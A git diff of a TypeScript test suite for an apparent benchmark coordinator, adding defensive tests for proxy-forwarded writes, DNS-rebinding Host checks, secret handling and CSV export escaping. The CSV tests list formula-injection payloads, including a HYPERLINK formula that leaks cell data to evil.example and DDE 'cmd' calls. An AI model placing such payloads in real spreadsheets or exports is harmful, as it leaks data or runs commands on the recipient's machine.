@@ -5,7 +5,9 @@
  * that does not echo a malformed token.
  */
 import { request, type IncomingHttpHeaders } from 'node:http';
-import { mkdtemp, rm } from 'node:fs/promises';
+import { connect, createServer, type AddressInfo } from 'node:net';
+import { once } from 'node:events';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -15,6 +17,9 @@ import { principalOf } from '../coordinator/auth.js';
 import { startCoordinator } from '../coordinator/server.js';
 import { uniquePrefix } from './fixtures/redis-server.js';
 import { useCluster } from './helpers/cluster.js';
+import { syntheticRuns } from './fixtures/synthetic.js';
+import type { RunResult } from '../contract/result.js';
+import { csvField, toCsv } from '../report/export/csv.js';
 import { runCli, waitFor } from './helpers/local.js';
 
 const TOKEN = 'edge-test-token-0123456789';
@@ -40,6 +45,51 @@ function send(url: string, method: string, target: string, headers: Record<strin
     });
     req.on('error', reject);
     req.end(body);
+  });
+}
+
+/** A GET's status and headers, and its body unless it streams on (an event stream): then it is cut after the first chunk. */
+function head(url: string, target: string, headers: Record<string, string> = {}): Promise<Answer> {
+  const u = new URL(url);
+  return new Promise((resolve, reject) => {
+    const req = request({ host: u.hostname, port: u.port, path: target, headers }, (res) => {
+      let text = '';
+      const done = () => {
+        resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text });
+      };
+      res.setEncoding('utf8');
+      res.on('data', (d: string) => {
+        text += d;
+        if (String(res.headers['content-type']).startsWith('text/event-stream')) {
+          done();
+          req.destroy();
+        }
+      });
+      res.on('end', done);
+    });
+    req.on('error', (err) => {
+      if (!req.destroyed) reject(err);
+    });
+    req.end();
+  });
+}
+
+/** A request as nginx's proxy_pass sends it by default: HTTP/1.0, and no header of a proxy's. */
+function http10(port: number, method: string, target: string, body: string): Promise<Answer> {
+  return new Promise((resolve, reject) => {
+    const socket = connect(port, '127.0.0.1', () => {
+      socket.end(
+        `${method} ${target} HTTP/1.0\r\nHost: 127.0.0.1:${String(port)}\r\nContent-Type: application/json\r\nContent-Length: ${String(Buffer.byteLength(body))}\r\n\r\n${body}`,
+      );
+    });
+    let text = '';
+    socket.setEncoding('utf8');
+    socket.on('data', (d: string) => (text += d));
+    socket.on('error', reject);
+    socket.on('close', () => {
+      const [headPart = '', ...rest] = text.split('\r\n\r\n');
+      resolve({ status: Number(/^HTTP\/1\.[01] (\d{3})/.exec(headPart)?.[1] ?? 0), headers: {}, body: rest.join('\r\n\r\n') });
+    });
   });
 }
 
@@ -99,8 +149,52 @@ describe('writes to a coordinator without a token', () => {
     expect((await send(c.url, 'POST', '/v1/matrices', { host: `[::1]:${port}` }, matrix)).status).toBe(202);
     expect((await send(c.url, 'POST', '/v1/matrices', { origin: `http://127.0.0.1:${port}`, 'sec-fetch-site': 'same-origin' }, matrix)).status).toBe(202);
     expect((await send(c.url, 'DELETE', `/v1/matrices/${id}`)).status).toBe(200);
-    // Reads stay open to anyone: the guard is for writes.
-    expect((await send(c.url, 'GET', '/v1/matrices', { host: 'evil.example' })).status).toBe(200);
+  });
+
+  it('are refused when a proxy passed them on, whichever of its headers it adds, and nothing is submitted', async () => {
+    const c = await cluster.coordinator();
+    const port = String(c.port);
+    // What nginx, Apache (without ProxyPreserveHost), Caddy, Traefik and Squid add; the Host stays the loopback one a same-host proxy sends.
+    const proxied: Record<string, string>[] = [
+      { forwarded: 'for=198.51.100.7;proto=http;by=127.0.0.1' },
+      { 'x-forwarded-for': '198.51.100.7' },
+      { 'x-forwarded-host': 'bench.example.org' },
+      { 'x-forwarded-proto': 'https' },
+      { 'x-real-ip': '198.51.100.7' },
+      { via: '1.1 proxy.example.org (squid/6.1)' },
+    ];
+    const named = ['Forwarded', 'X-Forwarded-For', 'X-Forwarded-Host', 'X-Forwarded-Proto', 'X-Real-IP', 'Via'];
+    const existing = Submitted.parse(JSON.parse((await send(c.url, 'POST', '/v1/matrices', {}, matrix)).body)).id;
+    for (const [i, headers] of proxied.entries()) {
+      for (const [method, target, body, type] of [
+        ['POST', '/v1/matrices', JSON.stringify({ ...JSON.parse(matrix), name: `proxied-${String(i)}` }), 'application/json'],
+        ['POST', '/v1/results', '{}\n', 'application/x-ndjson'],
+        ['DELETE', `/v1/matrices/${existing}`, undefined, 'application/json'],
+      ] as const) {
+        const a = await send(c.url, method, target, { host: `127.0.0.1:${port}`, 'content-type': type, ...headers }, body);
+        expect(a.status, `${method} ${target} with ${JSON.stringify(headers)}`).toBe(403);
+        const e = errorOf(a);
+        expect(e.code).toBe('FORBIDDEN');
+        expect(e.message).toContain(`it carries ${named[i] ?? ''}`);
+        expect(e.message).toContain('behind a reverse proxy set FSBENCH_TOKEN');
+      }
+    }
+    // nginx's proxy_pass in its defaults adds none of those headers, but speaks HTTP/1.0.
+    const old = await http10(c.port, 'POST', '/v1/matrices', JSON.stringify({ ...JSON.parse(matrix), name: 'proxied-http10' }));
+    expect(old.status).toBe(403);
+    expect(errorOf(old).message).toContain('HTTP/1.0');
+    expect(errorOf(old).message).toContain('FSBENCH_TOKEN');
+
+    const List = z.object({ matrices: z.array(z.object({ id: z.string(), name: z.string(), state: z.string() }).loose()) });
+    const listed = List.parse(JSON.parse((await send(c.url, 'GET', '/v1/matrices')).body)).matrices;
+    expect(listed.map((m) => m.id)).toEqual([existing]);
+    expect(listed[0]?.state).not.toBe('cancelled');
+    expect(listed.map((m) => m.name).filter((n) => n.startsWith('proxied'))).toEqual([]);
+
+    // The fix the message names: with FSBENCH_TOKEN, a proxied write that carries it is taken.
+    const guarded = await cluster.coordinator({ token: TOKEN });
+    const withToken = await send(guarded.url, 'POST', '/v1/matrices', { 'x-forwarded-for': '198.51.100.7', via: '1.1 nginx', authorization: `Bearer ${TOKEN}` }, matrix);
+    expect(withToken.status).toBe(202);
   });
 
   it('name the principal by token first, then by socket', () => {
@@ -111,6 +205,44 @@ describe('writes to a coordinator without a token', () => {
     expect(principalOf(config, from('10.1.2.3'))).toBe('anonymous');
     expect(principalOf(config, from('::ffff:127.0.0.1', 'Bearer wrong-token-0123456789'))).toBe('loopback');
     expect(principalOf({ token: undefined, readAuth: 'open' }, from('::1', `Bearer ${TOKEN}`))).toBe('loopback');
+  });
+});
+
+describe('reads', () => {
+  it('whose Host names another machine are refused, as a page reading through a DNS name rebound to the coordinator sends them', async () => {
+    const c = await cluster.coordinator({ allowedHosts: ['bench.internal'] });
+    const port = String(c.port);
+    const id = Submitted.parse(JSON.parse((await send(c.url, 'POST', '/v1/matrices', {}, matrix)).body)).id;
+    const reads = ['/v1/agents', '/metrics', `/v1/matrices/${id}/events`, '/v1/matrices', `/v1/matrices/${id}`, `/v1/matrices/${id}/results?format=csv`, '/openapi.json', '/', '/app.js'];
+    for (const target of reads) {
+      for (const host of [`rebind.example:${port}`, 'rebind.example', `bench.internal.rebind.example:${port}`, `localhost.rebind.example:${port}`]) {
+        const a = await head(c.url, target, { host });
+        expect(a.status, `${target} with Host ${host}`).toBe(403);
+        const e = errorOf(a);
+        expect(e.code).toBe('FORBIDDEN');
+        expect(e.message).toContain('FSBENCH_ALLOWED_HOSTS');
+        // Nothing of what the read would have answered: the error (errorOf parses it strictly), no more.
+        expect(a.body).not.toContain('fsbench_');
+        expect(a.body).not.toContain('"matrices"');
+      }
+      for (const host of [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`, `bench.internal:${port}`, 'BENCH.INTERNAL', `192.0.2.10:${port}`]) {
+        expect((await head(c.url, target, { host })).status, `${target} with Host ${host}`).toBe(200);
+      }
+    }
+    expect((await send(c.url, 'GET', '/v1/matrices', { host: `bench.internal:${port}` })).body).toContain(id);
+    // Probes answer whatever Host an orchestrator sends, and say nothing worth reading.
+    for (const target of ['/healthz', '/readyz']) expect((await send(c.url, 'GET', target, { host: 'rebind.example' })).status).toBe(200);
+  });
+
+  it('need no known Host when they carry the token, or when FSBENCH_READ_AUTH=token guards them', async () => {
+    const open = await cluster.coordinator({ token: TOKEN });
+    const rebound = { host: 'rebind.example' };
+    expect((await send(open.url, 'GET', '/v1/agents', rebound)).status).toBe(403);
+    expect((await send(open.url, 'GET', '/v1/agents', { ...rebound, authorization: 'Bearer wrong-token-0123456789' })).status).toBe(403);
+    expect((await send(open.url, 'GET', '/v1/agents', { ...rebound, authorization: `Bearer ${TOKEN}` })).status).toBe(200);
+    const guarded = await cluster.coordinator({ token: TOKEN, readAuth: 'token' });
+    expect((await send(guarded.url, 'GET', '/v1/agents', rebound)).status).toBe(401);
+    expect((await send(guarded.url, 'GET', '/v1/agents', { ...rebound, authorization: `Bearer ${TOKEN}` })).status).toBe(200);
   });
 });
 
@@ -219,10 +351,20 @@ describe('start-up', () => {
       expect(fromSpaced.code).toBe(ERRORS.CONFIG_INVALID.exit);
       expect(fromSpaced.stderr).toContain('must be printable ASCII without spaces');
       expect(fromSpaced.stderr + fromSpaced.stdout).not.toContain('pass phrase');
-      const fromFlag = await runCli(['coordinator', '--token', secret], env);
-      expect(fromFlag.code).toBe(ERRORS.CONFIG_INVALID.exit);
-      expect(fromFlag.stderr).toMatch(/^fsbench: --token \(value not shown\b.*\[CONFIG_INVALID\]$/m);
-      expect(fromFlag.stderr + fromFlag.stdout).not.toContain(secret);
+      const file = path.join(dataDir, 'token');
+      await writeFile(file, `${secret}\n`, { mode: 0o600 });
+      const fromFile = await runCli(['coordinator'], { ...env, FSBENCH_TOKEN_FILE: file });
+      expect(fromFile.code).toBe(ERRORS.CONFIG_INVALID.exit);
+      expect(fromFile.stderr).toMatch(/^fsbench: FSBENCH_TOKEN_FILE ".*" \(value not shown: it is secret\) is invalid: must be at least 16 characters \[CONFIG_INVALID\]$/m);
+      expect(fromFile.stderr + fromFile.stdout).not.toContain(secret);
+      const fromFileFlag = await runCli(['coordinator', '--token-file', file], env);
+      expect(fromFileFlag.stderr).toMatch(/^fsbench: --token-file ".*" \(value not shown: it is secret\) is invalid/m);
+      expect(fromFileFlag.stderr + fromFileFlag.stdout).not.toContain(secret);
+      const missing = await runCli(['coordinator'], { ...env, FSBENCH_TOKEN_FILE: path.join(dataDir, 'no-such-file') });
+      expect(missing.code).toBe(ERRORS.CONFIG_INVALID.exit);
+      expect(missing.stderr).toContain('no-such-file", which cannot be read (ENOENT)');
+      const both = await runCli(['coordinator'], { ...env, FSBENCH_TOKEN: 'a-token-long-enough-0123', FSBENCH_TOKEN_FILE: file });
+      expect(both.stderr).toContain('FSBENCH_TOKEN and FSBENCH_TOKEN_FILE are both set: unset one [CONFIG_INVALID]');
       // Settings that are not secret still show what was given.
       const limit = await runCli(['coordinator'], { ...env, FSBENCH_WRITE_LIMIT: '-5' });
       expect(limit.code).toBe(ERRORS.CONFIG_INVALID.exit);
@@ -230,5 +372,173 @@ describe('start-up', () => {
     } finally {
       await rm(dataDir, { recursive: true, force: true });
     }
+  });
+
+  it('refuses a secret on the command line, where every user of the machine reads it, naming the file alternative and never the secret', async () => {
+    const env = { FSBENCH_PORT: '0', FSBENCH_QUEUE_PREFIX: uniquePrefix('edge') };
+    const secret = 'a-command-line-token-0123456789';
+    const refusals: [string[], RegExp][] = [
+      [['coordinator', '--token', secret], /^fsbench: --token would put the secret on the command line, .*use --token-file <path>, FSBENCH_TOKEN_FILE=<path> or FSBENCH_TOKEN \[CONFIG_INVALID\]$/m],
+      [['submit', 'matrix.yaml', '--token', secret], /^fsbench: --token would put the secret on the command line, .*--token-file/m],
+      [['agents', '--token', secret], /--token-file/],
+      [['agent', '--redis-url', `redis://:${secret}@127.0.0.1:6379`], /^fsbench: --redis-url would put a password on the command line, .*FSBENCH_REDIS_PASSWORD_FILE \[CONFIG_INVALID\]$/m],
+      [['coordinator', '--redis-url', `redis://fsbench:${secret}@127.0.0.1:6379`], /--redis-url-file <path>, REDIS_URL_FILE=<path> or REDIS_URL/],
+      [['coordinator', '--redis-key', `-----BEGIN PRIVATE KEY-----\n${secret}\n-----END PRIVATE KEY-----`], /^fsbench: --redis-key would put a private key on the command line, .*give --redis-key the path of the key file/m],
+    ];
+    for (const [args, message] of refusals) {
+      const r = await runCli(args, env);
+      expect(r.code, args.join(' ')).toBe(ERRORS.CONFIG_INVALID.exit);
+      expect(r.stderr).toMatch(message);
+      expect(r.stderr + r.stdout).not.toContain(secret);
+    }
+  });
+});
+
+describe('the CLI and the token', () => {
+  /** An address of this machine that is not loopback: what another machine on the network would reach it by. */
+  const outward = Object.values(os.networkInterfaces())
+    .flat()
+    .find((i) => i?.family === 'IPv4' && !i.internal)?.address;
+
+  it.skipIf(outward === undefined)('sends it over plain http:// to another machine only with --insecure-token, and reads it from FSBENCH_TOKEN_FILE', async () => {
+    // Bound to that address only: nothing leaves this machine, but the CLI cannot tell.
+    const c = await cluster.coordinator({ host: outward ?? '', token: TOKEN, readAuth: 'token' });
+    const dir = await mkdtemp(path.join(os.tmpdir(), 'fsbench-edge-token-'));
+    cluster.cleanup(() => rm(dir, { recursive: true, force: true }));
+    const file = path.join(dir, 'token');
+    await writeFile(file, `${TOKEN}\n`, { mode: 0o600 });
+
+    const refused = await runCli(['agents', '--url', c.url], { FSBENCH_TOKEN: TOKEN });
+    expect(refused.code).toBe(ERRORS.CONFIG_INVALID.exit);
+    expect(refused.stderr).toContain(`refusing to send FSBENCH_TOKEN over plain http:// to ${new URL(c.url).host}`);
+    expect(refused.stderr).toContain('FSBENCH_INSECURE_TOKEN=1 (--insecure-token)');
+    expect(refused.stderr + refused.stdout).not.toContain(TOKEN);
+    // Refused before it connects: a listener on that address sees no connection at all.
+    const listener = createServer((socket) => {
+      connections++;
+      socket.destroy();
+    });
+    let connections = 0;
+    listener.listen(0, outward);
+    await once(listener, 'listening');
+    cluster.cleanup(
+      () =>
+        new Promise<void>((resolve) => {
+          listener.close(() => {
+            resolve();
+          });
+        }),
+    );
+    const elsewhere = `http://${outward ?? ''}:${String((listener.address() as AddressInfo).port)}`;
+    for (const env of [{ FSBENCH_TOKEN: TOKEN }, { FSBENCH_TOKEN_FILE: file }]) {
+      const r = await runCli(['submit', file, '--url', elsewhere], env);
+      expect(r.code).toBe(ERRORS.CONFIG_INVALID.exit);
+      expect(r.stderr).toContain('refusing to send FSBENCH_TOKEN over plain http://');
+    }
+    expect(connections).toBe(0);
+
+    for (const [args, env] of [
+      [['agents', '--url', c.url, '--insecure-token'], { FSBENCH_TOKEN: TOKEN }],
+      [['agents', '--url', c.url], { FSBENCH_TOKEN_FILE: file, FSBENCH_INSECURE_TOKEN: '1' }],
+      [['agents', '--url', c.url, '--insecure-token', '--token-file', file], {}],
+    ] as const) {
+      const r = await runCli([...args], env);
+      expect(r.stderr, args.join(' ')).toContain('no live agent');
+      expect(r.code).toBe(0);
+    }
+    // Without the token this coordinator answers 401: the file's token was what got the CLI in.
+    expect((await runCli(['agents', '--url', c.url])).stderr).toContain('[UNAUTHORIZED]');
+  });
+});
+
+/** RFC 4180, as a spreadsheet reads it: quoted fields may hold commas, doubled quotes and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text.charAt(i);
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') {
+      row.push(field);
+      field = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+      i++;
+    } else field += c;
+  }
+  return rows;
+}
+
+/** Whether a spreadsheet would take a cell's text for a formula (OWASP's list), numbers aside. */
+const formula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell);
+
+describe('CSV exports', () => {
+  // What whoever runs an agent or uploads results can put in free text: a link that leaks the
+  // neighbouring cells when clicked, a DDE command, and each of OWASP's other starting characters.
+  const payloads = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"click for details")',
+    "=cmd|' /C calc'!A0",
+    '+SUM(1,1)',
+    '-2+3+cmd|\' /C calc\'!A0',
+    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    '\t=1+1',
+    '\r=1+1',
+    '  =1+1',
+  ];
+
+  it('neutralise a cell that starts with =, +, -, @, tab or CR with a leading single quote, and leave numbers alone', () => {
+    for (const p of payloads) {
+      const field = csvField(p);
+      expect(field, JSON.stringify(p)).toBe(`"'${p.replace(/"/g, '""')}"`);
+      expect(parseCsv(`${field}\r\n`)[0]?.[0]).toBe(`'${p}`);
+    }
+    for (const n of [-1.5, -3e-7, 0, 42]) expect(csvField(n)).toBe(String(n));
+    for (const n of ['-1.5', '+2', '-3e-7', '.5']) expect(csvField(n)).toBe(n);
+    for (const plain of ['mount: /x: wrong fs type', 'a=b', 'x-1', 'MOUNT_FAILED: =1+1']) expect(csvField(plain)).toBe(plain);
+    const table = toCsv({ columns: ['name', 'value'], rows: payloads.map((p, i) => [p, -i - 0.5]) });
+    const rows = parseCsv(table).slice(1);
+    expect(rows.map((r) => r[0])).toEqual(payloads.map((p) => `'${p}`));
+    expect(rows.map((r) => r[1])).toEqual(payloads.map((_p, i) => String(-i - 0.5)));
+  });
+
+  it('from a real coordinator carry uploaded error messages and reasons neutralised, in both tables', async () => {
+    const c = await cluster.coordinator();
+    const runs = syntheticRuns({ matrix: { name: 'csv-injection', workload: 'inotify', repetitions: 3, params: { files: [64, 128] } }, machine: { machine: 'csv-host' } });
+    const hostile = runs.map((r, i): RunResult => {
+      const { matrix, cellId, workload, repetition, params, startedAt, finishedAt, fingerprint, limits } = r;
+      const common = { matrix, cellId, workload, repetition, params, startedAt, finishedAt, fingerprint, limits };
+      const text = payloads[i % payloads.length] ?? '';
+      if (i % 3 === 1) return { ...common, state: 'failed', error: { code: 'MOUNT_FAILED', message: text } };
+      if (i % 3 === 2) return { ...common, state: 'skipped', reason: text };
+      return r;
+    });
+    const upload = await send(c.url, 'POST', '/v1/results', { 'content-type': 'application/x-ndjson' }, `${hostile.map((r) => JSON.stringify(r)).join('\n')}\n`);
+    expect(upload.status).toBe(201);
+    const id = z.object({ matrices: z.array(z.object({ id: z.string() }).loose()) }).parse(JSON.parse(upload.body)).matrices[0]?.id ?? '';
+
+    const runsCsv = await send(c.url, 'GET', `/v1/matrices/${id}/results?format=csv&table=runs`);
+    expect(runsCsv.status).toBe(200);
+    expect(runsCsv.headers['content-type']).toContain('text/csv');
+    const [header = [], ...rows] = parseCsv(runsCsv.body);
+    const message = header.indexOf('errorMessage');
+    const reason = header.indexOf('reason');
+    const texts = rows.flatMap((r) => [r[message] ?? '', r[reason] ?? '']).filter((t) => t !== '');
+    expect(texts.length).toBe(4);
+    for (const t of texts) expect(payloads.map((p) => `'${p}`)).toContain(t);
+    const cellsCsv = await send(c.url, 'GET', `/v1/matrices/${id}/results?format=csv`);
+    expect(cellsCsv.status).toBe(200);
+    // No cell of either table is one a spreadsheet would run; negative numbers stay numbers.
+    for (const cell of [...rows.flat(), ...parseCsv(cellsCsv.body).flat()]) expect(formula(cell), JSON.stringify(cell)).toBe(false);
   });
 });
